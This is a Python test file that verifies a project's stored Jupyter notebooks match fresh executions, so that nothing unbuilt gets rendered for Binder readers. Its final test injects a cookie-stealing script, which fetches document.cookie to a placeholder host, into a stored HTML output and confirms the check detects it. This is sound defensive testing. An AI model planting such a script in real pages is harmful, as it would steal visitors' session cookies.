"""Stored notebooks must give nbval something to compare, carry no errors, and store only what
a fresh run of them writes (every output, not only the cells nbval compares)."""

from __future__ import annotations

import configparser
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from maintainer.execute_notebooks import execute_notebook
from maintainer.paths import ROOT

NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))


def test_there_are_chapters() -> None:
    assert NOTEBOOKS, "notebooks/ holds no chapter"


@pytest.mark.parametrize("path", NOTEBOOKS, ids=[p.name for p in NOTEBOOKS])
def test_notebook_is_stored_with_outputs(path: Path) -> None:
    notebook = nbformat.read(path, as_version=4)
    code = [c for c in notebook.cells if c.cell_type == "code"]
    assert code, f"{path.name} has no code cell"
    checked = [c for c in code if "nbval-check-output" in c.metadata.get("tags", [])]
    assert checked, f"{path.name}: no cell is tagged nbval-check-output, nbval would compare nothing"
    empty = [c.source.splitlines()[0] for c in checked if not c.outputs]
    assert not empty, f"{path.name}: cells tagged nbval-check-output stored without outputs: {empty}"
    unexecuted = [c.source.splitlines()[0] for c in code if c.source.strip() and c.execution_count is None]
    assert not unexecuted, f"{path.name}: cells stored unexecuted (run `make notebooks`): {unexecuted}"
    errors = [o for c in code for o in c.outputs if o.output_type == "error"]
    assert not errors, f"{path.name} stores an error output"


@pytest.mark.parametrize("path", NOTEBOOKS, ids=[p.name for p in NOTEBOOKS])
def test_notebook_outputs_are_deterministic(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert "0x7f" not in text, f"{path.name} stores a memory address"
    for cell in json.loads(text)["cells"]:
        assert "execution" not in cell.get("metadata", {}), f"{path.name} stores execution timestamps"


def test_nbval_fails_when_data_change(tmp_path: Path) -> None:
    """Prove the comparison bites: one changed value in data/ makes strict cells fail."""
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    populations = data / "world_populations.csv"
    # today's official value, read from data/ so that a refresh does not break the test
    frame = pd.read_csv(populations)
    current = int(frame.loc[(frame["series"] == "refugees_unhcr_mandate") & (frame["year"] == 2015), "value"].iloc[0])
    original, changed = f"2015,refugees_unhcr_mandate,{current},", f"2015,refugees_unhcr_mandate,{current + 1},"
    text = populations.read_text(encoding="utf-8")
    assert original in text
    populations.write_text(text.replace(original, changed), encoding="utf-8")
    chapter = ROOT / "notebooks" / "01_why_join_the_un.ipynb"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-p",
            "no:cacheprovider",
            "-q",
            "-c",
            str(ROOT / "pyproject.toml"),
            "--rootdir",
            str(ROOT),
            str(chapter),
        ],
        env={**os.environ, "IOMUN_DATA_DIR": str(data)},
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=600,
    )
    assert result.returncode != 0, "nbval passed although a refugee figure changed"
    # tables for people group the digits
    shown = {f"{v}" for v in (current, current + 1)} | {f"{v:,}" for v in (current, current + 1)}
    assert any(value in result.stdout for value in shown), result.stdout[-3000:]


# --- Nothing runs that the build did not produce -------------------------------------------
# postBuild trusts the stored notebooks, so JupyterLab renders their HTML (and runs its scripts)
# for every Binder reader. Every stored output of every cell, and the saved widget state, must
# therefore be what a fresh run of the same notebook writes, after sanitising what varies by run
# (tests/nbval_sanitize.cfg) and naming each widget model by its content instead of its random id.

MODEL_REF = re.compile(r"IPY_MODEL_([0-9a-f]{32})")
WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"
WIDGET_STATE = "application/vnd.jupyter.widget-state+json"


def sanitizers() -> list[tuple[re.Pattern[str], str]]:
    """The regex/replace pairs of nbval's sanitize file (the same noise nbval ignores)."""
    config = configparser.ConfigParser(interpolation=None)
    config.read(ROOT / "tests" / "nbval_sanitize.cfg", encoding="utf-8")
    return [(re.compile(config[s]["regex"]), config[s]["replace"]) for s in config.sections()]


def widget_names(notebook: nbformat.NotebookNode) -> dict[str, str]:
    """Each saved widget model's id -> a digest of its content, references to other models inlined."""
    state = notebook.metadata.get("widgets", {}).get(WIDGET_STATE, {}).get("state", {})
    names: dict[str, str] = {}

    def name(model_id: str, seen: frozenset[str] = frozenset()) -> str:
        if model_id not in names:
            if model_id in seen or model_id not in state:
                return "MISSING-OR-CYCLIC"
            text = json.dumps(state[model_id], sort_keys=True)
            text = MODEL_REF.sub(lambda m: "IPY_MODEL_" + name(m.group(1), seen | {model_id}), text)
            names[model_id] = hashlib.sha256(text.encode()).hexdigest()[:16]
        return names[model_id]

    for model_id in sorted(state):
        name(model_id)
    return names


def canonical(notebook: nbformat.NotebookNode) -> list[tuple[str, str]]:
    """(where, text) for every output of every code cell and for the saved widget state."""
    names = widget_names(notebook)
    rules = sanitizers()

    def clean(value: object) -> str:
        text = json.dumps(value, sort_keys=True, ensure_ascii=False)
        text = re.sub(r"[0-9a-f]{32}", lambda m: names.get(m.group(0), m.group(0)), text)
        for pattern, replacement in rules:
            text = pattern.sub(replacement, text)
        return text

    items: list[tuple[str, str]] = []
    for number, cell in enumerate(notebook.cells):
        if cell.cell_type != "code":
            continue
        first = cell.source.strip().splitlines()[0] if cell.source.strip() else ""
        where = f"cell {number} ({first[:60]})"
        items.append((f"{where}: number of outputs", str(len(cell.outputs))))
        for index, output in enumerate(cell.outputs):
            items.append((f"{where}, output {index}", clean(output)))
    widget_models = sorted(names.values())
    items.append(("saved widget state (models by content)", clean(widget_models)))
    return items


def differences(stored: nbformat.NotebookNode, fresh: nbformat.NotebookNode) -> list[str]:
    """Where a stored notebook's outputs differ from a fresh run's (empty when they agree)."""
    left, right = canonical(stored), canonical(fresh)
    found = [
        f"{where}: stored {a[:200]!r}, fresh run {b[:200]!r}"
        for (where, a), (_, b) in zip(left, right, strict=False)
        if a != b
    ]
    if len(left) != len(right):
        found.append(f"{len(left)} stored outputs against {len(right)} from a fresh run")
    return found


@pytest.fixture(scope="module")
def fresh_runs() -> dict[str, nbformat.NotebookNode]:
    """Every chapter executed again, as `make notebooks` runs it, without touching notebooks/."""
    runs = {}
    for path in NOTEBOOKS:
        notebook = nbformat.read(path, as_version=4)
        execute_notebook(notebook, path.parent)
        runs[path.name] = notebook
    return runs


@pytest.mark.slow
@pytest.mark.parametrize("path", NOTEBOOKS, ids=[p.name for p in NOTEBOOKS])
def test_stored_outputs_are_what_a_fresh_run_writes(path: Path, fresh_runs: dict[str, nbformat.NotebookNode]) -> None:
    found = differences(nbformat.read(path, as_version=4), fresh_runs[path.name])
    assert not found, f"{path.name}: stored outputs the build did not produce (run `make notebooks`):\n" + "\n".join(
        found[:10]
    )


@pytest.mark.slow
def test_a_script_added_to_a_stored_output_is_caught(fresh_runs: dict[str, nbformat.NotebookNode]) -> None:
    """A `<script>` prepended to the stored HTML of a hide-input cell (what nbval lets through)."""
    path = NOTEBOOKS[-1]
    stored = nbformat.read(path, as_version=4)
    targets = [
        (n, o)
        for n, c in enumerate(stored.cells)
        if c.cell_type == "code" and "hide-input" in c.metadata.get("tags", [])
        for o in c.outputs
        if "text/html" in o.get("data", {})
    ]
    if not targets:  # no hide-input cell shows HTML: take any cell that does
        targets = [
            (n, o)
            for n, c in enumerate(stored.cells)
            if c.cell_type == "code"
            for o in c.outputs
            if "text/html" in o.get("data", {})
        ]
    assert targets, f"{path.name} stores no HTML output"
    number, output = targets[0]
    output.data["text/html"] = "<script>fetch('https://example.invalid/?' + document.cookie)</script>" + (
        output.data["text/html"] if isinstance(output.data["text/html"], str) else "".join(output.data["text/html"])
    )
    found = differences(stored, fresh_runs[path.name])
    assert any(f"cell {number} " in line and "<script>" in line for line in found), found
